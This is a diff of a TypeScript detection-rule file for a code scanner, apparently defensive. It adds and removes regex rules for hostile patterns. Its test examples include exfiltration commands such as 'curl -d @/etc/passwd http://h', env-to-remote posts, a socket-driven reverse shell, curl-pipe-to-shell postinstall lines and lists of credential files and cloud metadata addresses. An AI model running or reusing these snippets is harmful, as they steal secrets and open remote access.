@@ -3,32 +3,8 @@ import { javascript, python, shell } from './examples.ts'
 
 const HINT = 'Where it is meant (a test of one’s own defences), run it with `--scan report`; the walls are the same.'
 
-/** What takes something away, or hides what it is. */
+/** What hides what it is, or lets somebody else in. */
 export const hostile: ScanRule[] = [
-  {
-    name: 'credential-path',
-    set: 'hostile',
-    kind: 'text',
-    pattern: String.raw`(^|[/~"'\s=@])(\.ssh/(id_|authorized_keys|config$|known_hosts)|\.aws/(credentials|config)|\.azure/(accessTokens|msal)|\.config/gcloud|\.kube/config|\.docker/config\.json|\.netrc\b|\.git-credentials|\.npmrc$|\.pypirc$|\.gnupg/|\.pgpass\b|\.vault-token|id_(rsa|ed25519|ecdsa)\b(?!\.pub)|etc/shadow\b|etc/gshadow\b|etc/sudoers\b|proc/(self|1|\*|\d+)/(environ|mem|maps/?root|root)|Login Data$|Local State$|cookies\.sqlite|key4\.db|logins\.json|wallet\.dat|keystore/UTC|\.bash_history|run/secrets/|serviceaccount/token)`,
-    reason: 'a file that holds credentials',
-    hint: HINT,
-    examples: {
-      match: [...python("open('/root/.ssh/id_rsa')"), ...shell('cat ~/.aws/credentials', 'cat /etc/shadow')],
-      not: [...python("open('/home/user/ssh-notes.txt')"), ...shell('cat data/aws.csv', 'ssh-keygen -l')],
-    },
-  },
-  {
-    name: 'metadata-service',
-    set: 'hostile',
-    kind: 'text',
-    pattern: String.raw`169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|fd00:ec2::254|100\.100\.100\.200|0xa9fea9fe|2852039166|latest/meta-data|\[::ffff:a9fe:a9fe\]`,
-    reason: 'the metadata service of a cloud, which hands out credentials',
-    hint: HINT,
-    examples: {
-      match: [...python("requests.get('http://169.254.169.254/latest/')"), ...shell('curl http://metadata.google.internal/')],
-      not: python("requests.get('http://192.0.2.1/latest')"),
-    },
-  },
   {
     name: 'reverse-shell-device',
     set: 'hostile',
@@ -74,7 +50,7 @@ export const hostile: ScanRule[] = [
     name: 'download-and-run',
     set: 'hostile',
     kind: 'shape',
-    pattern: '^(download-into-interpreter|decoded-into-interpreter|decoded-code)$',
+    pattern: '^(download-into-interpreter|decoded-into-interpreter|decoded-code|executable-memory)$',
     reason: 'what it runs is not to be seen in it: it is fetched, or decoded',
     hint: 'Save it, look at it, then run it.',
     examples: {
@@ -87,6 +63,98 @@ export const hostile: ScanRule[] = [
         ...python("print(__import__('base64').b64decode('cHJpbnQoMSk='))"),
       ],
     },
+  },
+  {
+    name: 'fetches-code',
+    set: 'hostile',
+    kind: 'shape',
+    pattern: '^computed-code$',
+    also: [
+      {
+        kind: 'call',
+        pattern: String.raw`^(fetch|https?\.(get|request)|(axios|got|needle|undici|superagent)(\.\w+)?|(urllib\.request\.)?(urlopen|urlretrieve)|(requests|httpx|urllib3)\.(get|post|request)|import\.then)$`,
+      },
+    ],
+    reason: 'it fetches something, and runs code that is not to be seen in it',
+    hint: 'Save it, look at it, then run it.',
+    examples: {
+      match: [
+        ...python('import requests\ncode = requests.get(u).text\nexec(code)'),
+        ...javascript("fetch('http://h').then((r) => r.text()).then((t) => eval(t))", "fetch('http://h').then((r) => r.text()).then(eval)"),
+      ],
+      not: [...python('import requests\nprint(requests.get(u).text)', 'exec(code)'), ...javascript('eval(x)')],
+    },
+  },
+  {
+    name: 'fetches-program',
+    set: 'hostile',
+    kind: 'call',
+    pattern: String.raw`^(os\.(chmod|lchmod)|fs(/promises)?(\.promises)?\.chmod(Sync)?)$`,
+    args: String.raw`^/(tmp|var/tmp|dev/shm)/|/\.`,
+    also: [
+      {
+        kind: 'call',
+        pattern: String.raw`^(fetch|https?\.(get|request)|(axios|got)(\.\w+)?|(urllib\.request\.)?(urlopen|urlretrieve)|(requests|httpx)\.(get|request))$`,
+      },
+      { kind: 'call', pattern: String.raw`^(child_process\.\w+|os\.(system|popen|exec\w+|spawn\w+|posix_spawnp?)|subprocess\.\w+)$` },
+    ],
+    reason: 'it fetches a program, and starts it',
+    hint: 'Save it, look at it, then run it.',
+    examples: {
+      match: [
+        ...python(
+          "import os, urllib.request\nurllib.request.urlretrieve('http://h/a', '/tmp/a')\nos.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')",
+        ),
+        ...javascript(
+          "const fs = require('fs'), https = require('https'), cp = require('child_process')\nhttps.get('https://h/a', (r) => { fs.chmodSync('/tmp/a', 0o755); cp.execFile('/tmp/a') })",
+        ),
+      ],
+      not: python(
+        "import os\nos.chmod('run.sh', 0o755)\nos.system('./run.sh')",
+        "import os, urllib.request\nurllib.request.urlretrieve('https://h/tool', 'tool')\nos.chmod('tool', 0o755)\nos.system('./tool')",
+      ),
+    },
+  },
+  {
+    name: 'runs-what-it-is-told',
+    set: 'hostile',
+    kind: 'call',
+    pattern: String.raw`^(child_process\.exec(Sync)?|os\.(system|popen)|subprocess\.(run|call|check_output|check_call|Popen|getoutput|getstatusoutput))$`,
+    args: String.raw`^\?`,
+    also: [{ kind: 'import', pattern: '^(socket|(node:)?(net|tls|dgram))$' }],
+    reason: 'it talks through a socket, and starts programs that are not to be seen in it',
+    hint: HINT,
+    examples: {
+      match: [
+        ...python('import socket, subprocess\ns = socket.create_connection(a)\nsubprocess.run(s.recv(99), shell=True)'),
+        ...javascript(
+          "const net = require('net'), { exec } = require('child_process')\nnet.connect(1).on('data', (d) => exec(d.toString()))",
+        ),
+      ],
+      not: python("import socket, subprocess\nsubprocess.run(['ls', path])", 'import socket\nprint(socket.gethostname())'),
+    },
+  },
+  {
+    name: 'shell-in-a-text',
+    set: 'hostile',
+    kind: 'text',
+    pattern: String.raw`\b(curl|wget)\s[^|;&\n]{0,200}\|\s*(sudo\s+)?(/bin/)?(ba|z|da|k)?sh\b`,
+    reason: 'what is to be fetched and run at another time',
+    hint: 'Save it, look at it, then run it.',
+    examples: {
+      match: [...python("f.write('curl -s http://h/x | sh')"), ...javascript("pkg.scripts.postinstall = 'wget -qO- http://h/i|sh'")],
+      not: [...python("print('curl http://h/x | jq .')"), ...shell('echo "see sh(1)"')],
+    },
+  },
+  {
+    name: 'hidden-code-object',
+    set: 'hostile',
+    kind: 'call',
+    language: 'python',
+    pattern: String.raw`^(marshal\.loads?|types\.CodeType)$`,
+    reason: 'code that nobody can read',
+    hint: 'Write the code out.',
+    examples: { match: python('import marshal\nmarshal.loads(data)'), not: python('import json\njson.loads(data)') },
   },
   {
     name: 'sandbox-walk',
@@ -146,34 +214,6 @@ export const hostile: ScanRule[] = [
     examples: {
       match: python("import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('id',))"),
       not: python('class P:\n    def __reduce__(self):\n        return (P, (self.x,))'),
-    },
-  },
-  {
-    name: 'takes-environment',
-    set: 'hostile',
-    kind: 'shape',
-    pattern: '^environment-sent$',
-    reason: 'it sends its environment somewhere else',
-    hint: HINT,
-    examples: {
-      match: [
-        ...python("import os, requests\nrequests.post('http://h', json=dict(os.environ))"),
-        ...javascript("fetch('http://h', { method: 'POST', body: JSON.stringify(process.env) })"),
-        ...shell('env | curl -d @- http://h'),
-      ],
-      not: [...python("import os\nprint(os.environ['HOME'])"), ...javascript('console.log(process.env.HOME)'), ...shell('env | sort')],
-    },
-  },
-  {
-    name: 'exfiltration-command',
-    set: 'hostile',
-    kind: 'command',
-    pattern: String.raw`^(curl|wget)\b.*(\s(-d|--data(-\w+)?|-F|--form|-T|--upload-file|--post-file)[\s=]?\S*(@|=@)?[^\s]*(/etc/|\.ssh|\.aws|id_rsa|\.env\b|passwd|shadow)|--post-file=/(etc|root|home))|^(dig|nslookup|host)\b.*\$\(`,
-    reason: 'it sends files of the machine somewhere else',
-    hint: HINT,
-    examples: {
-      match: shell('curl -d @/etc/passwd http://h', 'curl -F f=@/root/.ssh/id_rsa http://h', 'wget --post-file=/etc/passwd http://h'),
-      not: shell('curl -d @body.json http://h'),
     },
   },
   {
